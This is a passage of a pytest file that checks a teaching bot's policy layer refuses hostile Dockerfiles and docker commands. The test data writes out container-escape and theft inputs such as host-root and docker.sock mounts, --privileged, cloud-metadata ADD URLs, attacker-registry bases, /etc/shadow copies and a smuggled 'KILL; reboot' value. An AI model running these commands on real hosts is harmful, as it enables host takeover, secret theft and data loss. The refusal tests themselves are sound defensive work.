"""What may be built and run. Ids such as D07 and R01 are those of the catalogue of hostile inputs."""

# ruff: noqa: E501 - a table reads by the row

from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.handin.bases import emit, resolve_bases
from bot.handin.command import read_commands
from bot.handin.dockerfile import Dockerfile, DockerfileProblem, parse_dockerfile
from bot.handin.plan import BindMount, BuildPlan, ReadLogs, Refusal, RunPlan, ShowStats, TagImage, VolumeMount
from bot.handin.policy import judge_build, judge_run

SERVED = ("node:24-alpine", "alpine", "ubuntu", "mysql:8.0", "nicolaka/netshoot")
OWN = ("getting-started:latest",)
PLAN = BuildPlan(("x:latest",))


def verdict(text: str | bytes, plan: BuildPlan = PLAN) -> str:
    """Return the code that a Dockerfile is refused with, '' when it may be built."""
    parsed = parse_dockerfile(text)
    if isinstance(parsed, DockerfileProblem):
        return parsed.code
    refusal = judge_build(parsed, plan, SERVED, OWN)
    if refusal:
        assert refusal.say
        assert len(refusal.say) < 500
    return refusal.code if refusal else ""


FINE = [
    "# syntax=docker/dockerfile:1\nFROM node:24-alpine\nWORKDIR /app\nCOPY . .\nRUN npm install --omit=dev\nCMD [\"node\", \"src/index.js\"]\nEXPOSE 3000\n",
    "FROM docker.io/library/alpine:latest\n",
    "FROM getting-started\nUSER node\n",
    "FROM scratch\nCOPY a /\n",
    "ARG V=24\nFROM node:$V-alpine AS build\nRUN x\nFROM alpine\nCOPY --from=build /app /app\nCOPY --from=0 /app /b\n",
    "FROM alpine AS nginx\nFROM nginx\n",
    "FROM alpine\nENV DIR=/srv/app\nWORKDIR $DIR/x\nWORKDIR sub\n",
    "FROM alpine\nWORKDIR /a/b\nWORKDIR ../proc\nWORKDIR ../../app\n",
    "FROM alpine\nVOLUME /data /etc/todos\nEXPOSE 3000 9229/tcp\nLABEL team=blue\nSTOPSIGNAL SIGINT\nSHELL [\"/bin/sh\", \"-c\"]\n",
    "FROM alpine\nADD package.json /app/\nENV LD_PRELOAD=/x.so PATH=/evil\n",
    "FROM alpine\nHEALTHCHECK --interval=5s CMD true\nUSER 4294967295\nENTRYPOINT [\"sleep\", \"inf\"]\n",
    "FROM alpine\nCOPY ../../x /abs /dst/\nRUN mknod sda b 8 0\n",
]  # fmt: skip


#: what may be built although it sounds bad: the container holds it, or the engine says no in words of its own
HELD_LATER = [
    ("D22 a folder alike", "FROM alpine\nWORKDIR /process\nWORKDIR /app/proc\n"),
    ("D34 environment", "FROM alpine\nENV LD_PRELOAD=/x.so PATH=/evil\n"),
    ("D35 root", "FROM alpine\nUSER 0\n"),
    ("D35 last number", "FROM alpine\nUSER 4294967295\n"),
    ("D35 no user", "FROM alpine\nUSER ../x\n"),
    ("D36 for ever", 'FROM alpine\nENTRYPOINT ["sleep", "inf"]\n'),
    ("D39 shadowed name", "FROM alpine AS nginx\nFROM nginx\n"),
    ("D31 what is no range", "FROM alpine\nEXPOSE a-5 5-a - ²-³ 1-" + "9" * 5000 + "\n"),
    ("D37 a long line of shell", "FROM alpine\nRUN echo " + "x " * 300 + "\n"),
    ("D49 above", "FROM alpine\nCOPY ../../x /y\n"),
    ("D49 absolute", "FROM alpine\nCOPY /etc/shadow /y\n"),
    ("D50 shell", 'FROM alpine\nSHELL ["/evil"]\nRUN x\n'),
    ("D54 device", "FROM alpine\nRUN mknod sda b 8 0 && dd if=sda\n"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "text"), HELD_LATER, ids=[row[0] for row in HELD_LATER])
def test_what_only_sounds_bad_may_be_built(name: str, text: str, seen: Callable[[object], None]) -> None:
    assert verdict(text) == "", name
    seen("accepted, held by the container")


@pytest.mark.parametrize("text", FINE)
def test_an_ordinary_dockerfile_may_be_built(text: str) -> None:
    assert verdict(text) == ""


REFUSED = [
    ("D01", "FROM evil.example/x\n", "UNKNOWN_BASE"),
    ("D01 old tag", "FROM node:18-alpine\n", "UNKNOWN_BASE"),
    ("D01 digest", "FROM node:24-alpine@sha256:" + "0" * 64 + "\n", "UNKNOWN_BASE"),
    ("D01 registry of the same name", "FROM evil.example/library/node:24-alpine\n", "UNKNOWN_BASE"),
    ("D02", "ARG B=evil\nFROM $B\n", "UNKNOWN_BASE"),
    ("D02 quotes", "FROM e'v'\"i\"l\n", "UNKNOWN_BASE"),
    ("D04 another learner", "FROM docent-x/u2/getting-started\n", "UNKNOWN_BASE"),
    ("D04 id", "FROM 0123456789ab\n", "UNKNOWN_BASE"),
    ("D04 long id", f"FROM sha256:{'0' * 64}\n", "UNKNOWN_BASE"),
    ("D04 number of an image", "FROM " + "ab12" * 16 + "\n", "BAD_BASE"),
    ("D05", "FROM alpine\nCOPY --from=nginx:latest / /\n", "FOREIGN_COPY"),
    ("D05 served image", "FROM alpine\nCOPY --from=node:24-alpine / /\n", "FOREIGN_COPY"),
    ("D06 id", "FROM alpine\nCOPY --from=0123456789ab / /\n", "FOREIGN_COPY"),
    ("D06 number", "FROM alpine\nCOPY --from=7 / /\n", "FOREIGN_COPY"),
    ("D06 itself", "FROM alpine AS me\nCOPY --from=me / /\n", "FOREIGN_COPY"),
    ("D06 own number", "FROM alpine\nCOPY --from=0 / /\n", "FOREIGN_COPY"),
    ("D06 variable", "FROM alpine\nENV X=a\nCOPY --from=$X / /\n", "FOREIGN_COPY"),
    ("D06 endless number", "FROM alpine\nCOPY --from=" + "9" * 6000 + " / /\n", "FOREIGN_COPY"),
    ("D06 said twice", "FROM alpine AS a\nFROM alpine\nCOPY --from=evil --from=a / /\n", "BAD_OPTION"),
    ("D07", "FROM alpine\nADD http://169.254.169.254/latest/meta-data /x\n", "ADD_URL"),
    ("D09 upper case", "FROM alpine\nADD HTTP://x/y /x\n", "ADD_URL"),
    ("D09 mixed case", "FROM alpine\nADD hTTps://x/y /x\n", "ADD_URL"),
    ("D09 list", 'FROM alpine\nADD ["http://x/y", "/x"]\n', "ADD_URL"),
    ("D09 quotes", "FROM alpine\nADD ht't'p:\\//x/y /x\n", "ADD_URL"),
    ("D09 variable", "FROM alpine\nENV U=http://x\nADD $U /x\n", "ADD_VARIABLE"),
    ("D10", "FROM alpine\nADD https://github.com/a/b.git#main /x\n", "ADD_URL"),
    ("D09 ftp", "FROM alpine\nADD ftp://x/y /x\n", "ADD_URL"),
    ("D09 second", "FROM alpine\nADD a.txt http://x/y /x/\n", "ADD_URL"),
    ("D10 protocol", "FROM alpine\nADD git://github.com/a/b.git /x\n", "ADD_URL"),
    ("D10 without a scheme", "FROM alpine\nADD github.com/a/b /x\n", "ADD_URL"),
    ("D10 user of a host", "FROM alpine\nADD me@host.example:a.git /x\n", "ADD_URL"),
    ("D10 ssh", "FROM alpine\nADD git@github.com:a/b.git /x\n", "ADD_URL"),
    ("D11", "FROM alpine\nADD bomb.tar.gz /\n", "ADD_ARCHIVE"),
    ("D11 list", 'FROM alpine\nADD ["a.txt", "bomb.TGZ", "/"]\n', "ADD_ARCHIVE"),
    ("D11 zstd", "FROM alpine\nADD bomb.tar.zst /\n", "ADD_ARCHIVE"),
    ("D11 star", "FROM alpine\nADD *.tar /\n", "ADD_ARCHIVE"),
    ("D12 unpack", "FROM alpine\nADD --unpack=true a /x\n", "BUILDKIT"),
    ("D12", "FROM alpine\nADD --checksum=sha256:0 a /x\n", "BUILDKIT"),
    ("D12 git", "FROM alpine\nADD --keep-git-dir=true a /x\n", "BUILDKIT"),
    ("D15", "# syntax=attacker/frontend\nFROM alpine\n", "FRONTEND"),
    ("D15 mark", "\ufeff# syntax=attacker/frontend\nFROM alpine\n", "FRONTEND"),
    ("D15 blanks", "#syntax = attacker/frontend\nFROM alpine\n", "FRONTEND"),
    ("D15 later", "# note\n\n# syntax=attacker/frontend\nFROM alpine\n", "FRONTEND"),
    ("D15 alike", "# syntax=docker/dockerfile-evil:1\nFROM alpine\n", "FRONTEND"),
    ("D17", "FROM alpine\nRUN --mount=type=bind,from=x,target=/m ls\n", "BUILDKIT"),
    ("D19", "FROM alpine\nRUN --security=insecure ls\n", "BUILDKIT"),
    ("D20", "FROM alpine\nRUN --network=host ls\n", "BUILDKIT"),
    ("D21", "FROM alpine\nRUN --device=x ls\n", "BUILDKIT"),
    ("D22", "FROM alpine\nWORKDIR /proc/self/fd/7\n", "SYSTEM_FOLDER"),
    ("D22 steps", "FROM alpine\nWORKDIR /a\nWORKDIR ../proc\nWORKDIR self/fd/7\n", "SYSTEM_FOLDER"),
    ("D22 dots", "FROM alpine\nWORKDIR /a/../proc/self/fd/7\n", "SYSTEM_FOLDER"),
    ("D22 slashes", "FROM alpine\nWORKDIR //proc//self\n", "SYSTEM_FOLDER"),
    ("D22 relative", "FROM alpine\nWORKDIR proc/self/fd/7\n", "SYSTEM_FOLDER"),
    ("D22 variable", "FROM alpine\nENV A=/pr B=oc\nWORKDIR $A$B/self/fd/7\n", "SYSTEM_FOLDER"),
    ("D22 default", "FROM alpine\nWORKDIR ${A:-/proc}/self/fd/7\n", "UNKNOWN_VARIABLE"),
    ("D22 an image's variable wins over a default", "FROM getting-started\nWORKDIR ${P:-/app}\n", "UNKNOWN_VARIABLE"),
    ("D22 quotes", "FROM alpine\nWORKDIR \"/pr\"'oc'/self\n", "SYSTEM_FOLDER"),
    ("D22 unknown", "FROM getting-started\nWORKDIR $P\n", "UNKNOWN_VARIABLE"),
    ("D22 an image's variable wins over ARG", "FROM getting-started\nARG P=/app\nWORKDIR $P\n", "UNKNOWN_VARIABLE"),
    ("D22 stage", "FROM alpine AS a\nENV P=/proc\nFROM a\nWORKDIR $P\n", "SYSTEM_FOLDER"),
    ("D22 sys", "FROM alpine\nWORKDIR /sys/fs/cgroup\n", "SYSTEM_FOLDER"),
    ("D22 dev", "FROM alpine\nWORKDIR /dev\n", "SYSTEM_FOLDER"),
    *((f"D22 file {number}", f"FROM alpine\nWORKDIR /proc/self/fd/{number}\n", "SYSTEM_FOLDER") for number in range(8, 13)),
    ("D25 one by one", "FROM alpine\n" + "".join(f"VOLUME /a{n}\n" for n in range(6)), "TOO_MANY"),
    ("D25 list", f"FROM alpine\nVOLUME [{', '.join(chr(34) + f'/a{n}' + chr(34) for n in range(1, 501))}]\n", "TOO_MANY"),
    ("D25", "FROM alpine\nVOLUME " + " ".join(f"/a{n}" for n in range(150)) + "\n", "TOO_MANY"),
    ("D26", "FROM alpine\nVOLUME /\n", "SYSTEM_FOLDER"),
    ("D26 proc", "FROM alpine\nVOLUME /proc\n", "SYSTEM_FOLDER"),
    ("D26 variable", "FROM getting-started\nVOLUME $P\n", "UNKNOWN_VARIABLE"),
    *((f"D26 {path}", f"FROM alpine\nVOLUME {path}\n", "SYSTEM_FOLDER") for path in ("//", "/./etc/", "/data/../usr", "/var/run", "/root", "/sys/x")),
    ("D26 etc", 'FROM alpine\nVOLUME ["/data", "/etc"]\n', "SYSTEM_FOLDER"),
    ("D30", "FROM alpine\nSTOPSIGNAL SIGSTOP\n", "BAD_SIGNAL"),
    ("D30 zero", "FROM alpine\nSTOPSIGNAL 0\n", "BAD_SIGNAL"),
    ("D30 far", "FROM alpine\nSTOPSIGNAL SIGRTMAX+99\n", "BAD_SIGNAL"),
    ("D30 nineteen", "FROM alpine\nSTOPSIGNAL 19\n", "BAD_SIGNAL"),
    ("D30 variable", "FROM alpine\nENV S=SIGSTOP\nSTOPSIGNAL $S\n", "BAD_SIGNAL"),
    ("D31 many", "FROM alpine\n" + "EXPOSE 1 2 3 4 5 6 7\n" * 3, "TOO_MANY"),
    ("D31 range with a protocol", "FROM alpine\nEXPOSE 1-65535/udp\n", "TOO_MANY"),
    ("D31 variables", "FROM alpine\nEXPOSE " + "$A " * 21 + "\n", "TOO_MANY"),
    ("D31", "FROM alpine\nEXPOSE 1-65535\n", "TOO_MANY"),
    ("D32", "FROM alpine\nLABEL docent.learner=victim\n", "RESERVED_LABEL"),
    ("D32 compose", "FROM alpine\nLABEL a=b com.docker.compose.project=bot\n", "RESERVED_LABEL"),
    ("D32 ryuk", "FROM alpine\nLABEL \"org.testcontainers.ryuk\"=true\n", "RESERVED_LABEL"),
    ("D32 of the engine", "FROM alpine\nLABEL IO.docker.x=y\n", "RESERVED_LABEL"),
    ("D32 of the project", "FROM alpine\nLABEL org.dockerproject.x=y\n", "RESERVED_LABEL"),
    ("D32 many", "FROM alpine\n" + "".join(f"LABEL a{n}=b\n" for n in range(21)), "TOO_MANY"),
    ("D32 old form", "FROM alpine\nLABEL docent.job victim\n", "RESERVED_LABEL"),
    ("D32 variable", "FROM alpine\nENV A=docent.job\nLABEL $A=victim\n", "RESERVED_LABEL"),
    ("D37", "FROM alpine\n" + "RUN x\n" * 2000, "TOO_MANY"),
    ("D39", "FROM alpine\n" * 61, "TOO_MANY"),
    ("D39 stages", "FROM alpine\n" * 20, "TOO_MANY"),
    ("D39 later name", "FROM nginx\nFROM alpine AS nginx\n", "UNKNOWN_BASE"),
    ("D40", "".join(f"ARG A{n}=$A{n - 1}$A{n - 1}xx\n" for n in range(1, 41)) + "FROM $A40\n", "BAD_BASE"),
    ("D41", "# escape=`\nFROM alpine\nADD `\n  http://x/y /x\n", "ADD_URL"),
    ("D42 copy", "FROM alpine\nCOPY <<EOF /x\nADD http://x/y /\nEOF\n", "BUILDKIT"),
    ("D42 quoted", "FROM alpine\nRUN <<-'EOF'\nADD http://x/y /\nEOF\n", "BUILDKIT"),
    ("D42", "FROM alpine\nRUN <<EOF\nADD http://x/y /\nEOF\n", "BUILDKIT"),
    ("D44 case and tabs", "\tfrom evil.example/x\n", "UNKNOWN_BASE"),
    ("D44 windows", "FROM alpine\r\nadd http://x/y /\r\n", "ADD_URL"),
    ("D44 UTF-16", "FROM alpine\n".encode("utf-16"), "ENCODING"),
    ("D44 UTF-16 without a mark", "FROM alpine\n".encode("utf-16-le"), "ENCODING"),
    ("D44 other bytes", b"FROM alpine\nRUN \xff\n", "ENCODING"),
    ("D44 mark", "\ufeffFROM evil.example/x\n", "UNKNOWN_BASE"),
    ("D44 nul", "FROM alpine\x00\n", "ENCODING"),
    ("D44 vertical tab", "FROM\x0balpine\n", "ENCODING"),
    ("D45", "FROM alpi\u202ene\n", "INVISIBLE"),
    ("D45 zero width", "FROM alpine\u200b\n", "INVISIBLE"),
    ("D46 empty", "", "EMPTY"),
    ("D50 maintainer", "FROM alpine\nMAINTAINER " + "x" * 20_000, "TOO_LONG"),
    ("D50 megabyte", "FROM alpine\n#" + "x" * 1_000_000, "TOO_LONG"),
    ("D50 list", "FROM alpine\nCMD [" + ", ".join(['"x"'] * 1000) + "]\n", "TOO_MANY"),
    ("D50 arguments", "FROM alpine\nCMD [" + ", ".join(['"x"'] * 100_000) + "]\n", "TOO_LONG"),
    ("D50 words", "FROM alpine\nCMD " + "x " * 20_000 + "\n", "TOO_LONG"),
    *((f"D51 {name}", f"FROM alpine\nARG {name}=http://x\n", "BUILDER_ARGUMENT") for name in ("HTTPS_PROXY", "ftp_proxy", "NO_PROXY", "All_Proxy", "BUILDKIT_SYNTAX", "'http_proxy'")),
    ("D51", "FROM alpine\nARG HTTP_PROXY=http://attacker\n", "BUILDER_ARGUMENT"),
    ("D51 before", "ARG no_proxy\nFROM alpine\n", "BUILDER_ARGUMENT"),
    ("D52 copy", "FROM alpine\nCOPY --chmod=4755 a /a\n", "BUILDKIT"),
    ("D52 add", "FROM alpine\nADD --chmod=4755 a /a\n", "BUILDKIT"),
    ("ONBUILD", "FROM alpine\nONBUILD ADD http://x/y /\n", "ONBUILD"),
    ("a bad name", "FROM Node\n", "BAD_BASE"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "text", "code"), REFUSED, ids=[row[0] for row in REFUSED])
def test_a_hostile_dockerfile_is_refused_before_any_engine_sees_it(
    name: str, text: str | bytes, code: str, seen: Callable[[object], None]
) -> None:
    assert verdict(text) == code, name
    seen(code)


@pytest.mark.parametrize(
    ("name", "plan", "code"),
    [
        ("D16", BuildPlan((), build_args=(("BUILDKIT_SYNTAX", "attacker/x"),)), "BUILDER_ARGUMENT"),
        ("D51", BuildPlan((), build_args=(("https_proxy", "http://x"),)), "BUILDER_ARGUMENT"),
        ("D47", BuildPlan((), dockerfile="../../etc/shadow"), "OUTSIDE_PROJECT"),
        ("D47 absolute", BuildPlan((), dockerfile="/etc/shadow"), "OUTSIDE_PROJECT"),
        ("context", BuildPlan((), context=".."), "OUTSIDE_PROJECT"),
        ("context url", BuildPlan((), context="https://x/y.git"), "OUTSIDE_PROJECT"),
        ("D02 by build argument", BuildPlan((), build_args=(("B", "evil"),)), "UNKNOWN_BASE"),
    ],
)
def test_a_hostile_build_plan_is_refused(name: str, plan: BuildPlan, code: str) -> None:
    assert verdict("ARG B=alpine\nFROM $B\n", plan) == code, name


def test_a_refused_base_is_named_with_what_may_be_used_instead() -> None:
    parsed = parse_dockerfile("FROM evil.example/x\n")
    assert isinstance(parsed, Dockerfile)
    refusal = judge_build(parsed, PLAN, SERVED, OWN)
    assert refusal is not None
    assert refusal.seen == "evil.example/x"
    assert "`FROM evil.example/x` (line 1)" in refusal.say
    assert "alpine, mysql:8.0, nicolaka/netshoot, node:24-alpine, ubuntu" in refusal.say


@pytest.mark.parametrize(
    ("base", "near"), [("node:18-alpine", "node:24-alpine"), ("node", "node:24-alpine"), ("ubunut", "ubuntu")]
)
def test_a_base_close_to_a_served_one_is_suggested(base: str, near: str) -> None:
    parsed = parse_dockerfile(f"FROM {base}\n")
    assert isinstance(parsed, Dockerfile)
    refusal = judge_build(parsed, PLAN, SERVED, OWN)
    assert refusal is not None
    assert f"Did you mean `FROM {near}" in refusal.say


COMMANDS = [
    ("R01", "docker run -v /:/h alpine", "HOST_MOUNT"),
    ("R01 home", "docker run -v ~/.ssh:/h alpine", "HOST_MOUNT"),
    ("R01 windows", "docker run -v 'C:\\Users:/h' alpine", "HOST_MOUNT"),
    ("R01 above", "docker run -v ../..:/h alpine", "HOST_MOUNT"),
    ("R01 above in the middle", "docker run -v ./a/../../b:/h alpine", "HOST_MOUNT"),
    ("R01 socket", "docker run -v //var/run/docker.sock:/s alpine", "HOST_MOUNT"),
    ("R01 joined", "docker run -v/:/h alpine", "HOST_MOUNT"),
    ("R01 long", "docker run --volume=/:/h alpine", "HOST_MOUNT"),
    ("R01 root", "docker run -v /:/host alpine", "HOST_MOUNT"),
    ("R01 plain socket", "docker run -v /var/run/docker.sock:/var/run/docker.sock alpine", "HOST_MOUNT"),
    ("R01 home", "docker run -v ~/.ssh:/s alpine", "HOST_MOUNT"),
    ("R01 dotted root", "docker run -v /../etc:/h alpine", "HOST_MOUNT"),
    ("R01 out of here", "docker run -v /./../etc:/h alpine", "HOST_MOUNT"),
    ("R01 slash in a name", "docker run -v a/b:/h alpine", "BAD_MOUNT"),
    ("R01 into the kernel", "docker run -v todo-db:/app/../proc/sys alpine", "BAD_TARGET"),
    ("R01 over everything", "docker run -v todo-db://.. alpine", "BAD_MOUNT"),
    ("R02 root", "docker run --mount type=bind,src=/./../..,target=/h alpine", "HOST_MOUNT"),
    ("R02 volume path", "docker run --mount type=volume,src=/etc,target=/h alpine", "HOST_MOUNT"),
    ("R02 quoted", "docker run --mount 'type=bind,\"src=/etc\",target=/h' alpine", "HOST_MOUNT"),
    ("R02 twice", "docker run --mount type=bind,src=.,src=/etc,target=/h alpine", "HOST_MOUNT"),
    ("R02 volume driver", "docker run --mount type=volume,volume-driver=x,dst=/v alpine", "HOST_MOUNT"),
    ("R03 volume options", "docker volume create -o type=none -o o=bind -o device=/ x", "SECURITY_OPT"),
    ("R03 volume driver", "docker volume create -d vieux/sshfs x", "NOT_OFFERED"),
    ("R05 driver", "docker network create -d macvlan x", "NOT_OFFERED"),
    ("R05 option", "docker network create -o com.docker.network.bridge.name=docker0 x", "NETWORK_SETTING"),
    ("R05 subnet", "docker network create --subnet 0.0.0.0/0 x", "NETWORK_SETTING"),
    ("R05 existing", "docker network create host", "PREDEFINED"),
    ("R26 options for a program of the host", "docker top web -eo pid,args,env", "NOT_OFFERED"),
    ("rm above", "rm -rf ../../x", "OUTSIDE_PROJECT"),
    ("rm root", "rm -rf /", "OUTSIDE_PROJECT"),
    ("rm everything", "rm -rf .", "WHOLE_PROJECT"),
    ("rm stars", "rm -rf *", "SHELL"),
    ("R02", "docker run --mount type=bind,src=/,target=/h alpine", "HOST_MOUNT"),
    ("R02 source", "docker run --mount type=bind,source=/etc,dst=/h alpine", "HOST_MOUNT"),
    ("R02 driver", "docker run --mount type=volume,src=v,dst=/v,volume-opt=device=/ alpine", "HOST_MOUNT"),
    ("R02 npipe", "docker run --mount type=npipe,src=x,dst=/v alpine", "HOST_MOUNT"),
    ("R01 so many mounts", "docker run " + " ".join(f"-v a{n}:/x{n}" for n in range(21)) + " alpine", "TOO_MANY"),
    ("R01 twice at a place", "docker run -v a1:/x -v a2:/x alpine", "DUPLICATE_MOUNT"),
    ("R05 so many networks", "docker run " + " ".join(f"--network n{n}" for n in range(6)) + " alpine", "TOO_MANY"),
    ("R05 so many names", "docker run --network a " + " ".join(f"--network-alias n{n}" for n in range(11)) + " alpine", "TOO_MANY"),
    ("R05 odd name", "docker run --network a --network-alias 'a/b' alpine", "BAD_NAME"),
    ("R05 a name on the default one", "docker run --network-alias a alpine", "ALIAS_NEEDS_NETWORK"),
    ("R05 a name that is none", "docker run --network a/b alpine", "NO_SUCH_NETWORK"),
    ("R05 a name that is none in the long form", "docker run --network name=../x alpine", "NO_SUCH_NETWORK"),
    ("R05 a setting of the long form", "docker run --network name=a,driver-opt=x alpine", "NETWORK_SETTING"),
    ("R05 an address of the long form", "docker run --network name=a,ip=10.0.0.1 alpine", "NETWORK_SETTING"),
    ("R05 none and another", "docker run --network none --network a alpine", "NETWORK_CONFLICT"),
    ("R01 nothing before the colon", "docker run -v :/x alpine", "BAD_MOUNT"),
    ("R01 nothing behind it", "docker run -v db: alpine", "BAD_MOUNT"),
    ("R01 four parts", "docker run -v db:/x:ro:/y alpine", "BAD_MOUNT"),
    ("R01 no place", "docker run -v db:x alpine", "BAD_MOUNT"),
    ("R01 long name", "docker run -v " + "a" * 61 + ":/x alpine", "BAD_MOUNT"),
    ("R01 long place", "docker run -v db:/" + "a" * 200 + " alpine", "BAD_TARGET"),
    ("R02 no place", "docker run --mount type=volume,src=db alpine", "BAD_MOUNT"),
    ("R02 no source", "docker run --mount type=bind,dst=/x alpine", "BAD_MOUNT"),
    ("R02 unknown kind", "docker run --mount type=qwertz,src=db,dst=/x alpine", "BAD_MOUNT"),
    ("R02 cluster", "docker run --mount type=cluster,src=db,dst=/x alpine", "HOST_MOUNT"),
    ("R02 bad name", "docker run --mount src=a:b,dst=/x alpine", "BAD_MOUNT"),
    ("R02 over everything", "docker run --mount src=db,dst=/ alpine", "BAD_MOUNT"),
    ("R01 home alone", "docker run -v ~:/h alpine", "HOST_MOUNT"),
    ("R02 bind above", "docker run --mount type=bind,src=..,target=/h alpine", "HOST_MOUNT"),
    ("R02 image", "docker run --mount type=image,src=x,target=/h alpine", "NOT_OFFERED"),
    ("R02 tmpfs", "docker run --mount type=tmpfs,dst=/x,tmpfs-size=100g alpine", "NOT_OFFERED"),
    ("R02 kernel", "docker run --mount type=bind,src=.,target=/sys/x alpine", "BAD_TARGET"),
    ("R04 container", "docker run --pid container:x alpine", "HOST_NAMESPACE"),
    ("R04 parent", "docker run --cgroup-parent / alpine", "HOST_NAMESPACE"),
    ("R04 pid", "docker run --pid=host alpine", "HOST_NAMESPACE"),
    ("R04 ipc", "docker run --ipc host alpine", "HOST_NAMESPACE"),
    ("R04 uts", "docker run --uts=host alpine", "HOST_NAMESPACE"),
    ("R04 userns", "docker run --userns=host alpine", "HOST_NAMESPACE"),
    ("R04 cgroupns", "docker run --cgroupns host alpine", "HOST_NAMESPACE"),
    ("R05 host", "docker run --network host alpine", "HOST_NETWORK"),
    ("R05 net", "docker run --net=host alpine", "HOST_NETWORK"),
    ("R05 name", "docker run --network name=host,alias=x alpine", "HOST_NETWORK"),
    ("R05 container", "docker run --network container:x alpine", "HOST_NAMESPACE"),
    ("R06", "docker run --cap-add=ALL alpine", "CAPABILITY"),
    ("R06 drop", "docker run --cap-drop=ALL --cap-add sys_admin alpine", "CAPABILITY"),
    ("R06 group", "docker run --group-add docker alpine", "CAPABILITY"),
    ("R07", "docker run --device /dev/sda alpine", "DEVICE"),
    ("R07 gpus", "docker run --gpus all alpine", "DEVICE"),
    ("R07 rule", "docker run --device-cgroup-rule='a *:* rwm' alpine", "DEVICE"),
    ("R09 file", "docker run --env-file /proc/self/environ alpine", "OUTSIDE_PROJECT"),
    ("R09 above", "docker run --env-file ../.env alpine", "OUTSIDE_PROJECT"),
    ("R09 exec", "docker exec --env-file /proc/self/environ web env", "OUTSIDE_PROJECT"),
    ("R10 label", "docker run --label-file x alpine", "HOST_FILE"),
    ("R10 cid", "docker run --cidfile x alpine", "HOST_FILE"),
    ("R10 pid", "docker run --pidfile x alpine", "UNKNOWN_OPTION"),
    ("R11", "docker run --volumes-from x alpine", "OTHER_CONTAINER"),
    ("R11 link", "docker run --link x alpine", "OTHER_CONTAINER"),
    ("R12", "docker run --log-driver syslog alpine", "HOST_FILE"),
    ("R12 options", "docker run --log-opt syslog-address=tcp://x alpine", "HOST_FILE"),
    ("R14 all together", "docker run -dP alpine", "PUBLISH_ALL"),
    ("R14 all", "docker run -P alpine", "PUBLISH_ALL"),
    ("R15 memory", "docker run --memory 1t alpine", "LIMITS"),
    ("R15 pids", "docker run --pids-limit -1 alpine", "LIMITS"),
    ("R15 oom", "docker run --oom-kill-disable alpine", "LIMITS"),
    ("R15 score", "docker run --oom-score-adj -1000 alpine", "LIMITS"),
    ("R15 swap", "docker run --memory-swap -1 alpine", "LIMITS"),
    ("R15 cpus", "docker run --cpus 99 alpine", "LIMITS"),
    ("R15 shm", "docker run --shm-size 100g alpine", "LIMITS"),
    ("R16 init path", "docker run --init-path /x alpine", "RUNTIME"),
    ("R16 runtime", "docker run --runtime io.x alpine", "RUNTIME"),
    ("R16 isolation", "docker run --isolation x alpine", "RUNTIME"),
    ("R16 driver", "docker run --volume-driver x alpine", "RUNTIME"),
    ("R16 storage", "docker run --storage-opt size=1t alpine", "SECURITY_OPT"),
    ("R16 annotation", "docker run --annotation a=b alpine", "RUNTIME"),
    ("R16 ulimit", "docker run --ulimit nproc=-1 alpine", "LIMITS"),
    ("R16 sysctl", "docker run --sysctl kernel.x=1 alpine", "SECURITY_OPT"),
    ("R16 host-gateway", "docker run --add-host x:host-gateway alpine", "NETWORK_SETTING"),
    ("R16 dns", "docker run --dns 1.1.1.1 alpine", "NETWORK_SETTING"),
    ("security", "docker run --security-opt seccomp=unconfined alpine", "SECURITY_OPT"),
    ("privileged", "docker run --privileged alpine", "PRIVILEGED"),
    ("privileged exec", "docker exec --privileged web id", "PRIVILEGED"),
    ("api socket", "docker run --use-api-socket alpine", "HOST_MOUNT"),
    ("R17 host", "docker -H tcp://1.2.3.4 ps", "OTHER_ENGINE"),
    ("R17 joined", "docker -Htcp://1.2.3.4 ps", "OTHER_ENGINE"),
    ("R17 context", "docker --context other ps", "OTHER_ENGINE"),
    ("R17 config", "docker --config /x ps", "OTHER_ENGINE"),
    ("R17 variable", "DOCKER_HOST=tcp://1.2.3.4 docker ps", "OTHER_ENGINE"),
    ("R17 tls", "docker --tlsverify ps", "OTHER_ENGINE"),
    ("R19 cp out", "docker cp web:/etc/passwd /etc/passwd", "HOST_PATH"),
    ("R19 cp above", "docker cp web:/x ../../x", "HOST_PATH"),
    ("R19 cp stream", "docker cp - web:/x", "STREAM"),
    ("R19 cp", "docker cp /etc/shadow web:/a", "HOST_PATH"),
    ("R19 commit", "docker commit web x", "NOT_OFFERED"),
    ("R19 export", "docker export web", "NOT_OFFERED"),
    ("R19 save", "docker save x", "NOT_OFFERED"),
    ("R19 load", "docker load -i x", "NOT_OFFERED"),
    ("R19 import", "docker import x", "NOT_OFFERED"),
    ("R20 prune", "docker system prune -af", "NOT_OFFERED"),
    ("R20 all", "docker rm -f $(docker ps -aq)", "SHELL"),
    ("R20 a time with two signs", "docker stop -t --5 db", "BAD_OPTION_VALUE"),
    ("R20 a time in other figures", "docker stop -t ٣ db", "BAD_OPTION_VALUE"),
    ("R20 a time without end", "docker stop -t 99999999999 db", "BAD_OPTION_VALUE"),
    ("R20 a count with two signs", "docker ps -n=+-3", "BAD_OPTION_VALUE"),
    ("R20 no time", "docker stop -t '' db", "BAD_OPTION_VALUE"),
    ("R20 kill", "docker kill -s 'KILL; reboot' web", "BAD_OPTION_VALUE"),
    ("R20 image prune", "docker image prune -a", "CONFIRM"),
    ("R20 container prune", "docker container prune", "CONFIRM"),
    ("R20 volume prune", "docker volume prune", "CONFIRM"),
    ("R20 network prune", "docker network prune", "CONFIRM"),
    ("R20 builder prune", "docker builder prune -af", "NOT_OFFERED"),
    ("R20 filter", "docker image prune -f --filter label=x", "NOT_OFFERED"),
    ("R21 stack", "docker stack deploy x", "NOT_OFFERED"),
    ("R21 context", "docker context use x", "NOT_OFFERED"),
    ("R21 update", "docker update --memory 1t web", "NOT_OFFERED"),
    ("R21 events", "docker events", "NOT_OFFERED"),
    ("R21 plugin", "docker plugin install x", "NOT_OFFERED"),
    ("R21 swarm", "docker swarm init", "NOT_OFFERED"),
    ("R21 service", "docker service create x", "NOT_OFFERED"),
    ("R21 checkpoint", "docker checkpoint create x", "NOT_OFFERED"),
    ("R21 manifest", "docker manifest inspect x", "NOT_OFFERED"),
    ("R21 trust", "docker trust sign x", "NOT_OFFERED"),
    ("R21 buildx", "docker buildx create", "NOT_OFFERED"),
    ("R21 compose", "docker compose -f /etc/compose.yaml up", "OUTSIDE_PROJECT"),
    ("R22 pipe", "docker ps | sh", "SHELL"),
    ("R22 or", "docker ps || sh", "SHELL"),
